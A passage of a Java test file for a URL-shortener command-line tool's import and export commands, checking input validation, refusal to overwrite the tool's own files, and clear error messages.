                "{\"shortCode\":\"taken\",\"longUrl\":\"https://example.com/taken\"}",
                "{\"shortCode\":\"fine2\",\"longUrl\":\"https://example.com/fine2\",\"maxVisits\":0}",
                "{\"shortCode\":\"last\",\"longUrl\":\"https://example.com/last\"}") + "\n");
        CliRun run = run("import", "-file=" + data, input.toString());
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.err()).contains("line 1: skipped: the short code 'taken' is in use by a link to https://example.com/taken")
                .contains("line 3: skipped: the custom slug 'admin' is a path goto uses itself")
                .contains("line 4: skipped: url scheme 'javascript' is not allowed")
                .contains("line 5: skipped: url points at this goto")
                .contains("line 6: skipped: not a JSON object")
                .contains("line 7: skipped: dateCreated 'yesterday' is not a date")
                .contains("line 9: skipped: maxVisits must be at least 1")
                .doesNotContain("line 2:").doesNotContain("line 8:").doesNotContain("line 10:");
        assertThat(run.out()).contains("2 added, 1 unchanged, 1 conflict, 6 invalid").contains("skipped 7 bad lines");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            assertThat(store.lookup("fine").dateCreated()).isEqualTo(Instant.parse("2020-05-06T07:08:09Z"));
            assertThat(store.longUrlOf("last")).isEqualTo("https://example.com/last");
            assertThat(store.longUrlOf("taken")).isEqualTo("https://example.com/taken");
            assertThat(store.size()).isEqualTo(3);
        }
    }

    @Test
    void progressWithoutATerminalIsPlainLines() throws Exception {
        StringBuilder urls = new StringBuilder();
        for (int i = 0; i < 5_000; i++) {
            urls.append("https://example.com/page/").append(i).append('\n');
        }
        Path input = Files.writeString(dir.resolve("urls.txt"), urls);
        CliRun run = run("import", "-file=" + dir.resolve("goto.data"), input.toString());
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.err()).contains("import").contains("5,000 links").contains("100%");
        assertThat(run.err().chars().filter(c -> c < 0x20 && c != '\n').count()).as("no \\r or escape sequences in " + run.err())
                .isZero();
    }

    @Test
    void exportRefusesAFileARunningGotoHolds() throws Exception {
        Path data = richFile();
        try (LogLinkStore running = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            Consumer<CliRun> refused = run -> assertThat(run.exitCode()).isEqualTo(1);
            CliRun export = run("export", "-file=" + data);
            refused.accept(export);
            assertThat(export.err()).contains("is in use").contains("stop it first");
            CliRun imported = run("import", "-file=" + data, Files.writeString(dir.resolve("u.txt"), "https://example.com/x\n").toString());
            refused.accept(imported);
            assertThat(imported.err()).contains("in use");
        }
        CliRun missing = run("export", "-file=" + dir.resolve("nothing.data"));
        assertThat(missing.exitCode()).isEqualTo(1);
        assertThat(missing.err()).contains("does not exist");
        assertThat(Files.exists(dir.resolve("nothing.data"))).as("an export creates no file").isFalse();
    }

    @Test
    void anExportToAPathItCannotWriteSaysWhyAndWritesNothing() throws Exception {
        Path data = richFile();
        byte[] before = Files.readAllBytes(data);
        List<Path> files;
        try (var listing = Files.list(dir)) {
            files = listing.sorted().toList();
        }
        Path missingDir = dir.resolve("no-such-dir");
        Path intoMissing = missingDir.resolve("links.jsonl");
        CliRun run = run("export", "-file=" + data, "-o", intoMissing.toString());
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.err()).contains("goto export: cannot write " + intoMissing + ": its directory " + missingDir.toAbsolutePath()
                + " does not exist; create it first");
        CliRun toDirectory = run("export", "-file=" + data, "-o", dir.toString());
        assertThat(toDirectory.exitCode()).isEqualTo(1);
        assertThat(toDirectory.err()).contains("goto export: cannot write " + dir + ": it is a directory; give a file name in it");
        CliRun ontoData = run("export", "-file=" + data, "-format=csv", "-o", data.toString());
        assertThat(ontoData.exitCode()).isEqualTo(1);
        assertThat(ontoData.err()).contains("cannot write " + data + ": it is the data file being exported");
        assertThat(Files.readAllBytes(data)).as("the data file").isEqualTo(before);
        try (var listing = Files.list(dir)) {
            assertThat(listing.sorted().toList()).as("no file made, none left half-written").isEqualTo(files);
        }
        CliRun fixed = run("export", "-file=" + data, "-o", dir.resolve("links.jsonl").toString());
        assertThat(fixed.exitCode()).as(fixed.err()).isZero();
        assertThat(Files.readAllLines(dir.resolve("links.jsonl"))).as("4 links and the end record").hasSize(5);
    }

    @Test
    void anExportOntoAPathGotoKeepsBesideTheDataFileIsRefused() throws Exception {
        Path data = richFile();
        Path link = Files.createSymbolicLink(dir.resolve("link.data"), data.getFileName());
        List<Path> files;
        try (var listing = Files.list(dir)) {
            files = listing.sorted().toList();
        }
        Map<String, String> owned = Map.of(
                ".visits", "the directory goto keeps the visits of " + data + " in",
                ".image", "the index image goto writes for " + data,
                ".image.writing", "the file goto writes the index image of " + data + " into",
                ".compacting", "the file goto compacts " + data + " into",
                ".repairing", "the file goto repair rewrites " + data + " into",
                ".sock", "the control socket of the goto serving " + data,
                ".health", "the file goto check keeps the link health of " + data + " in",
                ".health.tmp", "the file goto check writes the link health of " + data + " into",
                ".pg-node", "the note saying which PostgreSQL database keeps the API keys of the node whose -file is " + data,
                ".corrupt-20261201T120000", "a backup goto made of " + data);
        owned.forEach((suffix, what) -> {
            Path output = Path.of(data + suffix);
            CliRun refused = run("export", "-file=" + data, "-o", output.toString());
            assertThat(refused.exitCode()).as(suffix).isEqualTo(1);
            assertThat(refused.err()).as(suffix).contains("goto export: cannot write " + output + ": it is " + what
                    + "; give -o another file");
        });
        // The data file named through a symbolic link: its paths are the link's and the file's.
        CliRun throughLink = run("export", "-file=" + link, "-o", data + ".visits");
        assertThat(throughLink.exitCode()).isEqualTo(1);
        assertThat(throughLink.err()).contains("it is the directory goto keeps the visits of " + link + " in");
        try (var listing = Files.list(dir)) {
            assertThat(listing.sorted().toList()).as("no file made").isEqualTo(files);
        }
        // Names that only look alike are fine.
        for (String name : List.of("source.data.visits.jsonl", "source.data.images", "other.data.visits")) {
            CliRun fine = run("export", "-file=" + data, "-o", dir.resolve(name).toString());
            assertThat(fine.exitCode()).as(name + ": " + fine.err()).isZero();
        }
    }

    @Test
    void anImportThatAddsNothingLeavesNoNewFileAndSaysSo() throws Exception {
        Path empty = Files.writeString(dir.resolve("empty.txt"), "");
        Path data = dir.resolve("new.data");
        CliRun nothing = run("import", "-file=" + data, empty.toString());
        assertThat(nothing.exitCode()).as(nothing.err()).isZero();
        assertThat(nothing.out()).startsWith("imported 0 links from " + empty + " (")
                .endsWith("; nothing written: " + data + " was not created\n");
        CliRun skipped = run("import", "-file=" + data, Files.writeString(dir.resolve("bad.txt"), "not a url\n").toString());
        assertThat(skipped.exitCode()).isEqualTo(1);
        assertThat(skipped.out()).contains("1 invalid").contains("nothing written: " + data + " was not created");
        try (var listing = Files.list(dir)) {
            assertThat(listing.map(path -> path.getFileName().toString()).sorted().toList()).as("no data file, no image")
                    .containsExactly("bad.txt", "empty.txt");
        }

        // A data file that was there, even one without links, is kept.
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            assertThat(store.size()).isZero();
        }
        byte[] before = Files.readAllBytes(data);
        CliRun intoEmpty = run("import", "-file=" + data, empty.toString());
        assertThat(intoEmpty.exitCode()).as(intoEmpty.err()).isZero();
        assertThat(intoEmpty.out()).startsWith("imported 0 links into " + data + " from " + empty).doesNotContain("not created");
        assertThat(Files.readAllBytes(data)).isEqualTo(before);
        Files.delete(data);

        CliRun one = run("import", "-file=" + data, Files.writeString(dir.resolve("one.txt"), "https://example.com/a\n").toString());
        assertThat(one.exitCode()).as(one.err()).isZero();
        assertThat(one.out()).contains("imported 1 link into " + data).doesNotContain("nothing written");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            assertThat(store.lookup("a").longUrl()).isEqualTo("https://example.com/a");
        }
    }
}
